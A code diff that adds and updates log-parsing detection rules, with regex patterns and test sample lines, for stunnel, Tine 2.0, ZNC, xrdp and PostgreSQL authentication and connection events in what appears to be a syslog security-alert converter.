+          "prefix": "^(?:sshd(?:-session|-auth)?: )?(?=(?:Failed |Accepted |Invalid user |Connection closed by |Connection reset by |Disconnected from |Received disconnect from |Disconnecting |error: |fatal: |Unable to negotiate |banner exchange: |Did not receive identification |Timeout before authentication|User [^\\s:]{1,64} from |Bad protocol version |PAM |pam_unix\\(sshd:|ROOT LOGIN REFUSED|refused connect from |Postponed |Connection from |Server listening |Received signal |Bad packet length|Corrupted MAC|Authentication refused|reverse mapping checking|Address [0-9A-Fa-f:.]{2,45} maps to |Nasty PTR record|input_userauth_request|Protocol major versions differ|ssh_dispatch_run_fatal|kex_exchange_identification|maximum authentication attempts))"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-stunnel.yaml",
+    "rules": [
+      {
+        "id": "stunnel.accepted",
+        "programs": [
+          "stunnel"
+        ],
+        "requires": "] accepted connection from ",
+        "pattern": "^Service \\[[^\\]]{1,64}\\] accepted connection from (?<ip>[0-9A-Fa-f:.]{2,45}):(?<port>\\d{1,5})$",
+        "alert": false,
+        "remember": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "samples": [
+          {
+            "line": "Jan  1 12:00:01 gw stunnel: LOG5[0]: Service [https] accepted connection from 192.0.2.80:5678",
+            "expect": {}
+          }
+        ]
+      },
+      {
+        "id": "stunnel.cert-rejected",
+        "programs": [
+          "stunnel"
+        ],
+        "pattern": "^(?:Rejected by CERT at depth=\\d{1,3}: |CERT: Verification error|SSL_accept: [^\\n]{0,300}?(?:peer did not return a certificate|certificate verify failed))",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "stunnel refused a client certificate",
+        "target": {
+          "service": "stunnel"
+        },
+        "samples": [
+          {
+            "line": "Jan  1 12:00:03 gw stunnel: LOG4[0]: Rejected by CERT at depth=0: CN=x",
+            "after": [
+              "Jan  1 12:00:01 gw stunnel: LOG5[0]: Service [https] accepted connection from 192.0.2.81:5678"
+            ],
+            "expect": {
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.81"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan  1 12:00:03 gw stunnel: LOG3[7]: SSL_accept: 140890C7: error:140890C7:SSL routines:SSL3_GET_CLIENT_CERTIFICATE:peer did not return a certificate",
+            "expect": {
+              "Category": [
+                "Access.Unauthorized"
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "stunnel.libwrap-refused",
+        "programs": [
+          "stunnel"
+        ],
+        "requires": "] REFUSED by libwrap from ",
+        "pattern": "^Service \\[(?<service>[^\\]]{1,64})\\] REFUSED by libwrap from (?<ip>[0-9A-Fa-f:.]{2,45}):(?<port>\\d{1,5})$",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "stunnel service {service} refused {ip} (libwrap)",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "stunnel"
+        },
+        "samples": [
+          {
+            "line": "Jan  1 12:00:04 gw stunnel[812]: LOG4[1]: Service [x] REFUSED by libwrap from 192.0.2.83:5678",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.83",
+                  "Port": [
+                    5678
+                  ]
+                }
+              ]
+            }
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "stunnel",
+      "aliases": [
+        "stunnel4",
+        "stunnel5"
+      ],
+      "description": "stunnel log file",
+      "syslogTags": [
+        "stunnel",
+        "stunnel4"
+      ],
+      "syslogPrefix": "^LOG[0-7]\\[(?<pid>[^\\]\\s]{1,20})\\]: ",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}\\.\\d\\d\\.\\d\\d \\d\\d:\\d\\d:\\d\\d) LOG[0-7]\\[(?<pid>[^\\]\\s]{1,20})\\]: ",
+          "time": "YYYY.MM.DD hh:mm:ss"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-tine20.yaml",
+    "rules": [
+      {
+        "id": "tine20.login-failed",
+        "programs": [
+          "tine20"
+        ],
+        "requires": " Login with username ",
+        "pattern": "^Tinebase_Controller::[A-Za-z_]{1,40}::\\d{1,6} Login with username (?<user>.{0,256}) from (?<ip>[0-9A-Fa-f:.]{2,45}) failed \\((?<code>-?\\d{1,3})\\)!(?: Auth failure count: \\d{1,9})?$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Tine 2.0 login as {user} failed from {ip} (result {code})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "tine20"
+        },
+        "samples": [
+          {
+            "line": "a1b2c3 - -- none -- - 2021-03-01T10:00:00+00:00 INFO (6): Tinebase_Controller::_loginFailed::519 Login with username bob from 192.0.2.170 failed (-1)! Auth failure count: 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.170"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob",
+                  "Service": "tine20"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2021-03-01T10:00:00+00:00"
+            }
+          },
+          {
+            "line": "2c9a0 -- none -- - 2014-01-05T08:40:02+00:00 WARN (4): Tinebase_Controller::login::106 Login with username admin from 192.0.2.171 failed (-3)!",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.171"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin"
+                }
+              ]
+            }
+          },
+          {
+            "line": "a1b2c3 - -- none -- - 2021-03-01T10:00:00+00:00 INFO (6): Tinebase_Controller::_loginFailed::519 Login with username x from 6.6.6.6 failed (-1)! from 192.0.2.172 failed (-1)!",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.172"
+                }
+              ]
+            }
+          },
+          {
+            "line": "a1b2c3 - bob - 2021-03-01T10:00:01+00:00 INFO (6): Tinebase_Controller::_loginUser::231 Login with username bob from 192.0.2.170 succeeded.",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "tine20",
+      "aliases": [
+        "tine",
+        "tine-groupware"
+      ],
+      "description": "Tine 2.0 log file",
+      "lines": [
+        {
+          "prefix": "^(?:[^ ]{1,64} ){1,10}(?<time>\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?:[+-]\\d\\d:?\\d\\d|Z)?) [A-Z]{3,6} \\(\\d\\): "
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-vaultwarden.yaml",
     "rules": [],
     "logformat": {
@@ -3720,6 +5749,29 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-xrdp.yaml",
+    "rules": [],
+    "logformat": {
+      "program": "xrdp",
+      "aliases": [
+        "xrdp-sesman",
+        "xrdp-sesexec"
+      ],
+      "description": "xrdp.log / xrdp-sesman.log",
+      "lines": [
+        {
+          "prefix": "^\\[(?<time>\\d{8}-\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?)\\] (?=\\[[A-Z]{4,5} ?\\] )",
+          "time": "YYYYMMDD-hh:mm:ss[.f]"
+        },
+        {
+          "prefix": "^\\[(?<level>[A-Z]{4,5} ?)\\] \\[(?<time>\\d{8}-\\d\\d:\\d\\d:\\d\\d)\\] ",
+          "time": "YYYYMMDD-hh:mm:ss",
+          "message": "[{level}] "
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-zimbra.yaml",
     "rules": [],
     "logformat": {
@@ -3732,6 +5784,95 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         {
           "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d,\\d{3}) (?=(?:WARN|INFO|ERROR|DEBUG|FATAL) {1,3}\\[)",
           "time": "YYYY-MM-DD hh:mm:ss,f"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-znc.yaml",
+    "rules": [
+      {
+        "id": "znc.login-failed",
+        "programs": [
+          "znc"
+        ],
+        "requires": "] failed to login from ",
+        "pattern": "^\\[(?<user>.{0,256})\\] failed to login from (?<ip>[0-9A-Fa-f:.]{2,45})$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "ZNC (IRC bouncer) login as {user} failed from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "irc"
+        },
+        "samples": [
+          {
+            "line": "[2024-01-01 12:00:01] [bob] failed to login from 192.0.2.41",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.41"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob",
+                  "Service": "irc"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan  1 12:00:01 irc znc[812]: [admin] failed to login from ::ffff:192.0.2.42",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.42"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2024-01-01 12:00:01] [x] failed to login from 6.6.6.6] failed to login from 192.0.2.43",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.43"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2024-01-01 12:00:00] [bob] connected to ZNC from 192.0.2.40",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "znc",
+      "description": "ZNC admin log (adminlog module, znc.log)",
+      "syslogTags": [
+        "znc"
+      ],
+      "lines": [
+        {
+          "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d)\\] (?=\\[)",
+          "time": "YYYY-MM-DD hh:mm:ss"
         }
       ]
     }
@@ -12973,6 +15114,44 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "expect": {
               "Description": "PostgreSQL Ident authentication failed for user \"web\""
             }
+          },
+          {
+            "line": "< 2017-07-31 13:36:43.585 CEST >FATAL:  password authentication failed for user \"x\"",
+            "expect": {
+              "Target": [
+                {
+                  "User": "x"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:10 CET [1243]: [1-1] user=x,db=y,app=psql,client=192.0.2.65 FATAL:  password authentication failed for user \"x\"",
+            "expect": {
+              "Target": [
+                {
+                  "User": "x"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:01 db3 postgres[1241]: [3-1] FATAL:  password authentication failed for user \"bob\"",
+            "after": [
+              "Jan 10 12:00:00 db3 postgres[1241]: [2-1] LOG:  connection received: host=192.0.2.63 port=5432"
+            ],
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.63"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
+            }
           }
         ]
       },
@@ -12983,8 +15162,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "postgresql",
           "postmaster"
         ],
-        "requires": "no pg_hba.conf entry for host \"",
-        "pattern": "(?:^|[ \\]])FATAL: {1,2}no pg_hba\\.conf entry for (?:replication connection from )?host \"(?<ip>[0-9A-Fa-f:.]{2,45})\", user \"(?<user>[^\"]{0,256})\"",
+        "requires": "pg_hba.conf ",
+        "pattern": "(?:^|[ \\]])FATAL: {1,2}(?:no pg_hba\\.conf entry for|pg_hba\\.conf rejects connection for) (?:replication connection from )?host \"(?<ip>[0-9A-Fa-f:.]{2,45})\", user \"(?<user>[^\"]{0,256})\"",
         "category": [
           "Access.Unauthorized"
         ],
@@ -13049,6 +15228,31 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "expect": null
           }
         ]
+      },
+      {
+        "id": "postgresql.connection-received",
+        "programs": [
+          "postgres",
+          "postgresql",
+          "postmaster"
+        ],
+        "requires": "connection received: host=",
+        "pattern": "(?:^|[ \\]])LOG: {1,2}connection received: host=(?<ip>[0-9A-Fa-f:.]{2,45})(?: port=(?<port>\\d{1,5}))?$",
+        "alert": false,
+        "remember": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 db3 postgres[2348]: [2-1] LOG:  connection received: host=192.0.2.63 port=5432",
+            "expect": {}
+          },
+          {
+            "line": "Jan 10 12:00:00 db3 postgres[2348]: [2-1] LOG:  connection received: host=[local]",
+            "expect": null
+          }
+        ]
       }
     ],
     "logformat": {
@@ -13061,7 +15265,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "fallback": true,
       "lines": [
         {
-          "prefix": "^(?:< )?(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?: [A-Z]{2,5}| [+-]\\d\\d(?::?\\d\\d)?)?)(?: >)? (?:\\[(?<pid>\\d{1,10})\\](?:-\\d{1,6})? )?(?=(?:[^ ]{1,200} )?(?:LOG|FATAL|ERROR|WARNING|PANIC|NOTICE|INFO|DETAIL|HINT|STATEMENT|CONTEXT|DEBUG[1-5]?): )",
+          "prefix": "^(?:< )?(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?: [A-Z]{2,5}| [+-]\\d\\d(?::?\\d\\d)?)?)(?: > ?| )(?:\\[(?<pid>\\d{1,10})(?:-\\d{1,6})?\\](?:-\\d{1,6})?:? (?:\\[\\d{1,10}-\\d{1,6}\\] )?)?(?=(?:[^ ]{1,200} ){0,3}(?:LOG|FATAL|ERROR|WARNING|PANIC|NOTICE|INFO|DETAIL|HINT|STATEMENT|CONTEXT|DEBUG[1-5]?): )",
           "time": "YYYY-MM-DD hh:mm:ss[.f][ Z]"
         }
       ]
